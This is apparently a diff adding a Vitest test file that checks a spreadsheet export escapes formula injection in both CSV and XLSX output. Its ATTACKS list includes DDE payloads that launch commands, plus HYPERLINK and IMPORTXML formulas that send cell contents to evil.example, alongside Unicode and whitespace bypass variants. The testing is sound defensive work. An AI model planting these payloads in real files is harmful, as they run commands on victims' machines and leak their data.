@@ -1,0 +1,97 @@
+import { describe, expect, test } from 'vitest';
+import { sheetIn } from '../../../tests/world/xlsx.ts';
+import { csvOf, xlsxOf } from './spreadsheet.ts';
+import type { Cell } from './spreadsheet.ts';
+
+const ATTACKS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  `=cmd|' /C calc'!A0`,
+  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
+  `=DDE("cmd";"/C calc";"!A0")`,
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\uFF1D1+1',
+  '\uFF0B1+1',
+  '\uFF20SUM(1)',
+];
+const HARMLESS = [
+  'Ada Owner',
+  'a=b',
+  '2 + 2',
+  'ada@agency.example',
+  `O'Brien`,
+  'say "hi", then go',
+  'two\nlines',
+  '',
+];
+
+const sheet = (rows: Cell[][]) => ({
+  name: 'Hours',
+  columns: [
+    { header: 'Who', width: 20 },
+    { header: 'Minutes', width: 10 },
+  ],
+  rows,
+});
+
+/** Reads quoted CSV back; every cell must be quoted. */
+function cells(csv: Buffer): string[][] {
+  const text = csv.toString('utf8');
+  expect(text.startsWith('\uFEFF')).toBe(true);
+  const body = text.slice(1).replace(/\r\n$/, '');
+  const rows: string[][] = [];
+  for (const [cell, value = '', end] of body.matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)) {
+    expect(cell.length).toBeGreaterThan(1);
+    const row = rows.at(-1) ?? [];
+    if (rows.length === 0) rows.push(row);
+    row.push(value.replaceAll('""', '"'));
+    if (end === '\r\n') rows.push([]);
+  }
+  expect(rows.flat().length * 3 - 1).toBeLessThanOrEqual(body.length);
+  return rows;
+}
+
+test('there are 15 ways in', () => {
+  expect(new Set(ATTACKS).size).toBe(15);
+});
+
+describe.each(ATTACKS)('%j stays text', (attack) => {
+  test('in CSV', () => {
+    expect(cells(csvOf(sheet([[attack, 5]])))[1]).toEqual([`'${attack}`, '5']);
+  });
+
+  test('in XLSX', async () => {
+    const { rows, formulas } = await sheetIn(await xlsxOf(sheet([[attack, 5]])));
+    expect(formulas).toBe(0);
+    expect(rows[1]).toEqual([`'${attack}`.replaceAll('\r', '\n'), 5]);
+  });
+});
+
+test.each(HARMLESS)('%j is not touched', async (text) => {
+  expect(cells(csvOf(sheet([[text, 5]])))[1]?.[0]).toBe(text);
+  const { rows } = await sheetIn(await xlsxOf(sheet([[text, 5]])));
+  expect(rows[1]).toEqual(text === '' ? [5] : [text, 5]);
+});
+
+test('numbers are numbers, negative ones too', async () => {
+  const rows = [['Ada', -2.25]] satisfies Cell[][];
+  expect(cells(csvOf(sheet(rows)))).toEqual([
+    ['Who', 'Minutes'],
+    ['Ada', '-2.25'],
+  ]);
+  expect((await sheetIn(await xlsxOf(sheet(rows)))).rows).toEqual([
+    ['Who', 'Minutes'],
+    ['Ada', -2.25],
+  ]);
+});
+
+test('what XML cannot hold is left out', async () => {
+  const { rows } = await sheetIn(await xlsxOf(sheet([['a\u0001b & <c>', 1]])));
+  expect(rows[1]).toEqual(['ab & <c>', 1]);
+});
